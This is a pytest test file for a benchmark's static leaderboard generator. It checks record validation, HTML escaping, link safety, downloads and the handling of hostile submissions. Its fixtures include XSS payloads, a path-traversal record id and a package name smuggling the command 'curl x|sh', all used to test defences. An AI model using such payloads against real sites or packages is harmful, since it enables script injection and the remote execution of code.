"""The static leaderboard: validation of submitted records, escaping, links, downloads, serve."""

from __future__ import annotations

import json
import re
import threading
import urllib.request
from pathlib import Path

import pandas as pd
import pytest
import synthetic_records as syn
import yaml
from click.testing import CliRunner

from auhead_bench.config import RunConfig
from auhead_bench.errors import BenchError
from auhead_bench.records import dump_record
from auhead_bench.reporting.commands import leaderboard, plot, table
from auhead_bench.reporting.leaderboard import build_site, make_server, record_problems

SCRIPT = "<script>window.__pwned = 1</script>"
IMG = '<img src=x onerror="window.__pwned = 2">'


def good_records() -> list:
    values = [20.0 + i for i in range(12)]
    return [
        syn.record(
            "strong",
            [
                syn.metric("psnr_rgb", {0: [v + 5 for v in values]}),
                syn.metric("lmd_mouth", {0: [1.0] * 12}, higher_is_better=False),
            ],
        ),
        syn.record(
            "weak",
            [
                syn.metric("psnr_rgb", {0: values}),
                syn.metric("lmd_mouth", {0: [3.0] * 12}, higher_is_better=False),
            ],
        ),
        syn.record(
            SCRIPT,
            [
                syn.metric("psnr_rgb", {0: [v + 2 for v in values]}),
                syn.metric("lmd_mouth", None, status="failed", reason=IMG, higher_is_better=False),
            ],
            method=SCRIPT,
            options={"note": IMG},
            record_id=f"../../{SCRIPT}",
        ),
    ]


def write(folder: Path, name: str, data: object) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


@pytest.fixture
def results(tmp_path: Path) -> Path:
    folder = tmp_path / "results"
    for i, record in enumerate(good_records()):
        write(folder, f"r{i}.json", dump_record(record))
    # what a careless or hostile submission looks like
    write(folder, "broken.json", "{not json")
    no_prov = dump_record(good_records()[0])
    del no_prov["provenance"]
    no_prov["record_id"] = "no-provenance"
    write(folder / "sub", "no_provenance.json", no_prov)
    tampered = dump_record(good_records()[1])
    tampered["record_id"] = "tampered"
    tampered["metrics"]["psnr_rgb"]["value"] = 99.0
    write(folder, "tampered.json", tampered)
    write(folder, "zz_duplicate.json", dump_record(good_records()[0]))
    write(folder, "run.json", {"name": "a run manifest, not a record"})
    return folder


@pytest.fixture
def site(results: Path, tmp_path: Path):
    return build_site(tmp_path / "site", results=results, n_boot=200)


def test_invalid_records_are_rejected_with_reasons_and_the_rest_build(site):
    reasons = {str(r.path): r.reason for r in site.rejected}
    assert set(reasons) == {
        "broken.json",
        "sub/no_provenance.json",
        "tampered.json",
        "zz_duplicate.json",
    }
    assert "not valid JSON" in reasons["broken.json"]
    assert "provenance" in reasons["sub/no_provenance.json"]
    assert "value is not the mean of its per_seed values" in reasons["tampered.json"]
    assert (
        "duplicate record_id 'strong__synthetic' (also in r0.json)" in reasons["zz_duplicate.json"]
    )
    assert len(site.accepted) == 3
    html = site.index.read_text()
    assert 'id="rejected"' in html and "tampered.json" in html


def test_every_record_string_is_escaped(site):
    pages = [site.index, *sorted((site.out / "records").glob("*.html"))]
    for page in pages:
        html = page.read_text()
        assert "<script>window" not in html and "<img src=x" not in html, page
        # our own script tag is the only one
        assert len(re.findall(r"<script\b", html)) == (1 if page == site.index else 0), page
    index = site.index.read_text()
    assert "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in index
    assert "&lt;img src=x onerror=&#34;window.__pwned = 2&#34;&gt;" in index
    # file names and links come from slugs, never from the raw id
    for path in (site.out / "records").iterdir():
        assert re.fullmatch(r"[A-Za-z0-9_.-]+", path.name), path.name
    assert all(".." not in href for href in re.findall(r'href="([^"]+)"', index))


def test_table_is_ranked_sortable_and_linked(site):
    html = site.index.read_text()
    body = html.split("<tbody>")[1]
    labels = re.findall(r'<th scope="row" class="label" data-value="([^"]*)"', body)
    assert labels[0] == "strong" and labels[-1] == "weak"  # best PSNR first by default
    header = html.split("<thead>")[1].split("</thead>")[0]
    assert 'data-higher="true"' in header and 'data-higher="false"' in header
    assert 'psnr_rgb <span class="arrow">↑</span>' in header
    values = re.findall(r'<td class="metric[^"]*" data-value="([^"]*)"', body)
    assert all(v == "" or float(v) == float(v) for v in values) and "" in values
    # each value links to its record page, which has the anchor
    for href in set(re.findall(r'href="(records/[^"#]+\.html)#(metric-[^"]+)"', body)):
        page = (site.out / href[0]).read_text()
        assert f'id="{href[1]}"' in page
    assert 'title="value ' in body and "95% CI [" in body  # CI tooltips


def test_downloads_and_reproduce_config(site):
    downloads = site.out / "downloads"
    frame = pd.read_csv(downloads / "leaderboard.csv")
    assert set(frame["method"]) == {"strong", "weak", SCRIPT}
    assert r"\begin{tabular}" in (downloads / "leaderboard.tex").read_text()
    data = json.loads((downloads / "leaderboard.json").read_text())
    assert len(data["rows"]) == 3
    assert all(row["source"].startswith("records/") for row in data["rows"])  # no local paths
    config = yaml.safe_load((site.out / "reproduce" / "strong__synthetic.yaml").read_text())
    parsed = RunConfig.model_validate(config)
    assert parsed.methods[0].id == "strong" and parsed.seeds == [0]
    page = (site.out / "records" / "strong__synthetic.html").read_text()
    assert "git checkout 0123456789abcdef0123456789abcdef01234567" in page
    assert "auhead-bench run strong__synthetic.yaml --out runs/strong__synthetic" in page
    raw = json.loads((site.out / "records" / "strong__synthetic.json").read_text())
    assert raw["record_id"] == "strong__synthetic"


def test_rebuild_reuses_its_own_folder_but_never_clobbers_others(site, results, tmp_path):
    (results / "r1.json").unlink()
    again = build_site(site.out, results=results, plots=False, n_boot=200)
    assert len(again.accepted) == 2
    assert not (site.out / "records" / "weak__synthetic.html").exists()  # stale page gone
    other = tmp_path / "mine"
    write(other, "notes.txt", "precious")
    with pytest.raises(BenchError, match="not empty and was not built"):
        build_site(other, results=results)
    assert (other / "notes.txt").read_text() == "precious"


def test_empty_results_build_an_empty_board(tmp_path):
    (tmp_path / "results").mkdir()
    site = build_site(tmp_path / "site", results=tmp_path / "results")
    assert "No valid result record yet" in site.index.read_text()


def test_build_command(results, tmp_path):
    runner = CliRunner()
    out = tmp_path / "site"
    result = runner.invoke(
        leaderboard, ["build", "--results", str(results), "--out", str(out), "--n-boot", "200"]
    )
    assert result.exit_code == 0, result.output
    assert f"built {out / 'index.html'} from 3 records (4 rejected" in result.output
    assert "rejected tampered.json:" in result.output
    strict = runner.invoke(
        leaderboard,
        ["build", "--results", str(results), "--out", str(out), "--strict", "--no-plots"],
    )
    assert strict.exit_code == 1
    missing = runner.invoke(
        leaderboard, ["build", "--results", str(tmp_path / "no"), "--out", str(out)]
    )
    assert missing.exit_code == 2 and missing.output.count("\n") == 1
    assert "results folder not found" in missing.output


def test_serve_binds_loopback_only(site):
    server = make_server(site.out, port=0)
    assert server.server_address[0] == "127.0.0.1"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/index.html"
        with urllib.request.urlopen(url, timeout=5) as response:
            assert response.status == 200 and b"leaderboard" in response.read()
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
    with pytest.raises(BenchError, match="not a built leaderboard site"):
        make_server(site.out / "records")


def test_synthetic_records_pass_the_extra_checks():
    assert all(not record_problems(r) for r in good_records())


def test_end_to_end_run_table_plot_leaderboard(video_factory, tmp_path):
    """One real run (two tiny clips, a sweep of static_frame) through every report."""
    from auhead_bench.runner import Runner

    video_factory("data/a.mp4", seed=1)
    video_factory("data/b.mp4", seed=2)
    (tmp_path / "labels.csv").write_text("clip_id,emotion,intensity\na,happy,1\nb,sad,2\n")
    config = RunConfig.model_validate(
        {
            "name": "e2e",
            "datasets": [
                {
                    "id": "folder",
                    "options": {
                        "root": str(tmp_path / "data"),
                        "labels": str(tmp_path / "labels.csv"),
                    },
                }
            ],
            "methods": [
                "ground_truth",
                *({"id": "static_frame", "options": {"frame": f}} for f in (0, 5, 15)),
            ],
            "metrics": ["psnr_rgb", "ssim_gauss11_rgb"],
            "cache_dir": str(tmp_path / "cache"),
            "seeds": [0, 1],
        }
    )
    run = tmp_path / "run"
    Runner(config, run).run()
    assert "by emotion" in (run / "table.md").read_text()
    runner = CliRunner()
    md = runner.invoke(table, [str(run), "--baseline", "ground_truth"])
    assert md.exit_code == 0 and "Paired comparison against ground_truth" in md.output
    # two clips: no CI and no p-value anywhere, a warning instead; n counts clips, not seeds
    assert "n too small" in md.output and "p=" not in md.output and "p<=" not in md.output
    assert "(n=2, n too small)" in md.output and "n=4" not in md.output
    figure = runner.invoke(
        plot,
        ["tradeoff", str(run), "--param", "frame", "--x", "psnr_rgb", "--y", "ssim_gauss11_rgb"],
    )
    assert figure.exit_code == 0, figure.output
    # a whole run folder can be published: its run.json and table.json are not records
    site = build_site(tmp_path / "site", results=run, n_boot=200)
    assert len(site.accepted) == 4 and not site.rejected
    # records keep each metric's options, and the reproduce config passes them back
    saved = json.loads(next((run / "records").glob("ground_truth*.json")).read_text())
    assert saved["metrics"]["psnr_rgb"]["options"] == {
        "align": "truncate",
        "resize": "bilinear_to_ground_truth",
    }
    again = yaml.safe_load(next((site.out / "reproduce").glob("ground_truth*.yaml")).read_text())
    assert {"id": "psnr_rgb", "options": saved["metrics"]["psnr_rgb"]["options"]} in again[
        "metrics"
    ]
    # a reference method's option is no trade-off: no automatic plot of static_frame's frame
    assert not any(p["name"].startswith("tradeoff") for p in site.plots)


# ---- hostile input (issue 14) --------------------------------------------------------------


def test_hostile_files_are_listed_one_line_each_and_the_rest_build(tmp_path):
    """A FIFO named r.json (hung), a folder x.json (IsADirectoryError), 100k nesting
    (RecursionError), a 5001-digit integer (ValueError), NaN and 1e999: each is rejected with
    its reason and the good records still build."""
    results = tmp_path / "results"
    for i, record in enumerate(good_records()[:2]):
        write(results, f"good{i}.json", dump_record(record))
    expected = syn.hostile_files(results)
    try:
        site = build_site(tmp_path / "site", results=results, plots=False, n_boot=200)
        reasons = {str(r.path): r.reason for r in site.rejected}
        assert set(reasons) == set(expected)
        for name, word in expected.items():
            assert word in reasons[name] and "\n" not in reasons[name], (name, reasons[name])
        assert len(site.accepted) == 2
        result = CliRunner().invoke(
            leaderboard,
            ["build", "--results", str(results), "--out", str(tmp_path / "s2"), "--no-plots"],
        )
        assert result.exit_code == 0, result.output
        assert "from 2 records (6 rejected" in result.output
        assert "rejected r.json: not a regular file (a FIFO)" in result.output
        assert "Traceback" not in result.output
    finally:
        syn.release_fifos(results)


def test_reproduce_config_keeps_metric_options():
    """csim's frame_stride 5 came back as 1 on re-run: the config named the metric only."""
    from auhead_bench.reporting.leaderboard import reproduce_config

    record = syn.record("strong", [syn.metric("csim", {0: [0.5] * 12})])
    record.metrics["csim"].options = {"frame_stride": 5}
    config = RunConfig.model_validate(yaml.safe_load(yaml.safe_dump(reproduce_config(record))))
    assert [(m.id, m.options) for m in config.metrics] == [("csim", {"frame_stride": 5})]


def test_two_runs_with_different_metric_sets_share_one_row(tmp_path):
    """Same method, dataset and record id, other metrics: the second was dropped as a duplicate."""
    values = [20.0 + i for i in range(12)]
    first = syn.record("strong", [syn.metric("psnr_rgb", {0: values})])
    second = syn.record(
        "strong",
        [
            syn.metric("psnr_rgb", {0: values}),  # shared, same protocol: kept once
            syn.metric("lmd_mouth", {0: [1.0] * 12}, higher_is_better=False),
        ],
    )
    other = syn.record("other", [syn.metric("psnr_rgb", {0: values})])
    clash = syn.record("other", [syn.metric("lmd_mouth", {0: [2.0] * 12})])
    clash.metrics["lmd_mouth"].protocol = {"landmarks": "68"}
    clash_too = syn.record(
        "other", [syn.metric("lmd_mouth", {0: [2.0] * 12}), syn.metric("lse_c", {0: [7.0] * 12})]
    )
    clash_too.metrics["lmd_mouth"].protocol = {"landmarks": "98"}
    results = tmp_path / "results"
    for name, record in (("a.json", first), ("b.json", second), ("c.json", other)):
        write(results, name, dump_record(record))
    write(results, "d.json", dump_record(clash))
    write(results, "e.json", dump_record(clash_too))
    site = build_site(tmp_path / "site", results=results, plots=False, n_boot=200)
    rows = {item.record.record_id: item.record for item in site.accepted}
    assert set(rows["strong__synthetic"].metrics) == {"psnr_rgb", "lmd_mouth"}
    merged = "b.json: metrics lmd_mouth merged into the row of a.json"
    assert merged in site.warnings
    # other + d (adds lmd_mouth) merge; e adds lse_c but its lmd_mouth has another protocol
    assert set(rows["other__synthetic"].metrics) == {"psnr_rgb", "lmd_mouth"}
    reasons = {str(r.path): r.reason for r in site.rejected}
    assert set(reasons) == {"e.json"}
    assert "metric 'lmd_mouth' was computed under another protocol" in reasons["e.json"]
    page = (site.out / "records" / "strong__synthetic.html").read_text()
    assert 'id="metric-lmd_mouth"' in page


def test_reproduce_block_shows_recorded_packages_as_flagged_data_not_commands(tmp_path):
    """A record's plugin names became `pip install` lines on our page, as if we advised them."""
    evil = syn.PLUGIN.model_copy(
        update={"distribution": "totally-safe; curl x|sh", "version": "<b>1</b>"}
    )
    record = syn.record("strong", [syn.metric("psnr_rgb", {0: [1.0] * 12})])
    record.provenance.plugins.append(evil)
    record.method.plugin = evil
    results = tmp_path / "results"
    write(results, "a.json", dump_record(record))
    site = build_site(tmp_path / "site", results=results, plots=False, n_boot=200)
    page = (site.out / "records" / "strong__synthetic.html").read_text()
    command = page.split('<pre class="command">')[1].split("</pre>")[0]
    assert "totally-safe" not in command and command.count("pip install") == 1  # the suite only
    recorded = page.split('id="recorded-packages"')[1].split("</table>")[0]
    assert "recorded in this record" in page and "not a recommendation" in page
    assert "<code>totally-safe; curl x|sh</code>" in recorded and "&lt;b&gt;1&lt;/b&gt;" in recorded
    rows = {r.split("<td><code>")[1].split("</code>")[0]: r for r in recorded.split("<tr")[2:]}
    assert "not a known plugin" in rows["totally-safe; curl x|sh"]
    assert "not a known plugin" not in rows["auhead-bench"]
    assert "totally-safe" not in site.index.read_text().split('class="repro"')[1]
